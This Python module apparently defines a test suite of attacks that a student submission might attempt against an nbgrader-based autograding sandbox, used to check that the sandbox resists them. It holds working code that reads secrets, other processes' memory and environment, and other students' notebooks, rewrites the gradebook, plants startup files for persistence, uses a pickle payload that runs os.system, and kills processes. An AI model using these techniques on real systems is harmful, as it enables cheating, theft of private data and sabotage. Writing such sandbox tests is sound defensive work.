"""Attacks on what lies outside: read it, change it, reach other processes and the network."""

from support.attacks import WRONG_BASKET, Attack

READING = [
    Attack(
        "reads-the-course",
        "Reads hidden tests, secret, gradebook and another student's work, by relative and "
        "absolute paths.",
        first="""\
name = "00_start_here"
for base in ("../../..", COURSE):
    for path in ("secret.json", "gradebook.db", f"source/{name}/{name}.ipynb",
                 f"submitted/@victim@/{name}/{name}.ipynb", f".gvc/{name}/@victim@.json"):
        attempt(read, os.path.join(base, path))
""",
    ),
    Attack(
        "walks-the-disk",
        "Walks the disk for files that belong to a course.",
        first="""\
until = time.time() + 1.5
wanted = {"secret.json", "gradebook.db", "00_start_here.ipynb", "00_start_here.py"}
for base, folders, names in os.walk("/" + COURSE.split("/")[1]):
    if time.time() > until:
        break
    for name in wanted & set(names):
        attempt(read, os.path.join(base, name))
""",
    ),
    Attack(
        "reads-other-processes",
        "Reads the memory, the environment and the folders of the processes that mark it.",
        first="""\
def line(pid):
    return open(f"/proc/{pid}/cmdline", "rb").read()
def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
def memory(pid):
    left = 200_000_000
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
        for each in maps:
            start, end = (int(x, 16) for x in each.split()[0].split("-"))
            if " rw" in each and end - start < left:
                left -= end - start
                attempt(mem.seek, start)
                loot(attempt(mem.read, end - start))
pid = os.getppid()
while pid and re.search(b"gvclib|nbgrader|attacked", attempt(line, pid) or b""):
    attempt(read, f"/proc/{pid}/environ")
    attempt(memory, pid)
    for path in ("cwd", "root" + COURSE):
        attempt(read, f"/proc/{pid}/{path}/secret.json")
    pid = attempt(parent, pid)
""",
    ),
    Attack(
        "reads-the-environment",
        "Prints the environment variables that it inherits.",
        first="loot(repr(dict(os.environ)))\nloot(open('/proc/self/environ', 'rb').read())\n",
    ),
    Attack(
        "reads-descriptors",
        "Reads from every file descriptor that it inherits.",
        first="""\
for number in range(3, 200):
    attempt(os.set_blocking, number, False)
    for take in (lambda: os.pread(number, 1_000_000, 0), lambda: os.read(number, 1_000_000)):
        loot(attempt(take))
for number in attempt(os.listdir, "/proc/self/fd") or []:
    attempt(read, f"/proc/self/fd/{number}/secret.json")
    attempt(read, f"/proc/self/fd/{number}/../secret.json")
""",
    ),
    Attack(
        "links-handed-in",
        "Hands in links that point to the course, and reads through them.",
        files={
            "notes.txt": "@course@/secret.json",
            "far.txt": "../../../secret.json",
            "data": "@course@/source",
            "own.db": "@course@/gradebook.db",
        },
        first="""\
for path in ("notes.txt", "far.txt", "own.db", "data/00_start_here/00_start_here.ipynb"):
    attempt(read, path)
""",
    ),
    Attack(
        "links-made-in-code",
        "Makes links to the course in its own folder, and reads through them.",
        first="""\
for number, target in enumerate((COURSE + "/secret.json", "../../../gradebook.db")):
    attempt(os.symlink, target, f"soft{number}")
    attempt(os.link, target, f"hard{number}")
    attempt(read, f"soft{number}")
    attempt(read, f"hard{number}")
""",
    ),
    Attack(
        "notebook-is-a-link",
        "Hands in a link to another student's notebook in place of its own.",
        files={"00_start_here.ipynb": "../../@victim@/00_start_here/00_start_here.ipynb"},
        costs=("malaysia", "matters", "chart"),
    ),
]

WRITING = [
    Attack(
        "gradebook-by-sql",
        "Gives every student 99 points in nbgrader's database.",
        first="""\
import sqlite3
for path in ("../../../gradebook.db", COURSE + "/gradebook.db"):
    def change():
        with sqlite3.connect(path, timeout=2) as database:
            database.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
        database.close()
    attempt(change)
""",
    ),
    Attack(
        "gradebook-by-nbgrader",
        "Gives itself and another student points through nbgrader's own functions.",
        first="""\
def change():
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///" + COURSE + "/gradebook.db", "gvc") as gradebook:
        for student in gradebook.students:
            for work in student.submissions:
                for grade in work.notebooks[0].grades:
                    grade.manual_score = 99
        gradebook.db.commit()
attempt(change)
""",
    ),
    Attack(
        "writes-outside",
        "Writes files outside its folder and into another student's submission and the course.",
        first="""\
for path in ("../@name@.txt", "../../../@name@.txt", OUTSIDE + "/@name@.txt",
             COURSE + "/source/00_start_here/@name@.txt", COURSE + "/nbgrader_config.py",
             COURSE + "/submitted/@victim@/00_start_here/responses.json"):
    attempt(write, path)
""",
    ),
    Attack(
        "deletes-outside",
        "Deletes the other students' submissions and the gradebook.",
        first="""\
import shutil
for path in ("submitted/@victim@", "autograded/@victim@", "feedback"):
    shutil.rmtree(COURSE + "/" + path, ignore_errors=True)
attempt(os.remove, OUTSIDE + "/precious.txt")
""",
    ),
    Attack(
        "package-changed-for-the-next",
        "Changes the course's package on disk, so that the next student's answers all count.",
        first="""\
import gvclib
home = os.path.dirname(gvclib.__file__)
def change():
    with open(home + "/exercises/judging/outcomes.py", "a") as file:
        file.write("\\n# @name@ was here\\nWRONG = OPEN = RIGHT\\n")
attempt(change)
""",
    ),
    Attack(
        "startup-files-for-the-next",
        "Leaves files that Python or IPython run at every start.",
        first="""\
import gvclib, IPython.paths, site
home = os.path.dirname(os.path.dirname(gvclib.__file__))
startup = IPython.paths.get_ipython_dir() + "/profile_default/startup"
attempt(os.makedirs, startup, exist_ok=True)
attempt(os.makedirs, site.getusersitepackages(), exist_ok=True)
fake = ("from gvclib.exercises.judging import outcomes as j; "
        "j.WRONG = j.OPEN = j.RIGHT  # @name@ was here\\n")
for path in (home + "/sitecustomize.py", home + "/@name@.pth", startup + "/00.py",
             site.getusersitepackages() + "/usercustomize.py"):
    attempt(lambda: open(path, "w").write(fake))
""",
    ),
    Attack(
        "next-students-folder-made",
        "Makes the next student's autograded folder, so that nbgrader believes it marked it.",
        first="""\
for base in ("../..", COURSE + "/autograded"):
    attempt(os.makedirs, base + "/@next@/00_start_here")
    attempt(write, base + "/@next@/00_start_here/@name@.txt")
""",
    ),
    Attack(
        "message-for-the-next",
        "Leaves its answers in shared folders for a friend who is marked later.",
        first="""\
for folder in @shared@:
    attempt(write, folder + "/@name@.txt")
""",
    ),
    Attack(
        "written-at-exit",
        "Writes outside when its process ends, by atexit and from a thread that goes on.",
        first="""\
import atexit, threading
atexit.register(attempt, write, OUTSIDE + "/@name@-exit.txt")
def later():
    for _ in range(20):
        time.sleep(0.1)
        attempt(write, OUTSIDE + "/@name@-thread.txt")
        attempt(write, "../../../@name@.txt")
threading.Thread(target=later, daemon=False).start()
""",
    ),
    Attack(
        "unpickled-elsewhere",
        "Answers with objects that write a file when anybody pickles, copies or prints them.",
        answers={
            "own": """\
class Bomb:
    def __reduce__(self):
        return os.system, ("echo @name@ > " + OUTSIDE + "/@name@.txt",)
    def __repr__(self):
        return "=@name@"
    __str__ = __repr__
own = Bomb()
""",
            "basket": "def basket(exports):\n    return Bomb()\n",
        },
        last="own = Bomb()\n",
    ),
]

REACHING = [
    Attack(
        "web-request",
        "Sends what it knows to a web server.",
        first="""\
import urllib.request
attempt(urllib.request.urlopen, f"http://127.0.0.1:{PORT}/@name@", timeout=2)
""",
    ),
    Attack(
        "datagram",
        "Sends a datagram, as a look-up of a name would.",
        first="""\
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.sendto(b"@name@", ("127.0.0.1", int(PORT)))
attempt(send)
""",
    ),
    Attack(
        "local-sockets",
        "Talks to a program of the teacher's through sockets on the file system and without a "
        "name.",
        first="""\
def send(address):
    with socket.socket(socket.AF_UNIX) as wire:
        wire.settimeout(2)
        wire.connect(address)
        wire.sendall(b"@name@")
for address in (OUTSIDE + "/socket", "\\0gvc-attacks-" + PORT):
    attempt(send, address)
""",
    ),
    Attack(
        "parent-killed",
        "Kills the process that started it.",
        first="""\
import signal
def namespace():
    return os.stat("/proc/self/ns/pid").st_ino
parent = os.getppid()
if parent > 1 or parent == 1 and attempt(namespace) not in (None, @namespace@):
    attempt(os.kill, parent, signal.SIGKILL)
time.sleep(0.3)
""",
    ),
    Attack(
        "stranger-killed",
        "Kills another program of the teacher's.",
        first="import signal\nattempt(os.kill, @stranger@, signal.SIGKILL)\n",
    ),
    Attack(
        "everybody-killed",
        "Kills every process it can reach.",
        first="""\
import signal
def namespace():
    return os.stat("/proc/self/ns/pid").st_ino
if attempt(namespace) not in (None, @namespace@):
    attempt(os.kill, -1, signal.SIGKILL)
else:
    attempt(os.kill, @stranger@, signal.SIGKILL)
""",
        stock="not tried: would hurt the machine",
    ),
    Attack(
        "process-left-behind",
        "Starts a program in a session of its own that goes on after the marking.",
        first="""\
import subprocess
def start():
    program = "import time, sys; time.sleep(600)"
    subprocess.Popen([sys.executable, "-c", program, "@name@"], start_new_session=True)
attempt(start)
def detach():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
attempt(detach)
""",
    ),
    Attack(
        "forged-messages",
        "Writes to every file descriptor that it inherits, to speak to the grader in its own name.",
        first="""\
import json, struct
reply = json.dumps({"answer": {"attempted": True, "data": 1}, "state": "right"}).encode()
for number in range(0, 200):
    attempt(os.set_blocking, number, False)
    attempt(os.write, number, struct.pack("!I", len(reply)) + reply)
    attempt(os.write, number, b"@name@ was here \\x1b[2J" * 50)
""",
    ),
    Attack(
        "speaks-to-the-marker",
        "Finds the connection behind ex and asks for what no student may ask.",
        answers={
            "basket": WRONG_BASKET
            + """\
for what in ("seed", "solution", "expected", "example", "__class__", None, 7, {}, "check"):
    for name in ("own", "basket", "../secret", "__dict__", None, ["x"], "x" * 10_000):
        for extra in ({}, {"seed": "visible"}, {"answer": {"handle": 10**9}}, {"data": []}):
            loot(repr(attempt(lambda: ex._ask({"ask": what, "name": name} | extra, extra))))
child = attempt(lambda: ex._ask.__self__)
for message in ({"reply": 1}, [], None, {"ask": []}, {"answer": {"data": {"$": "frame"}}}):
    attempt(lambda: child.channel.send(message))
"""
        },
    ),
]

ATTACKS = [*READING, *WRITING, *REACHING]
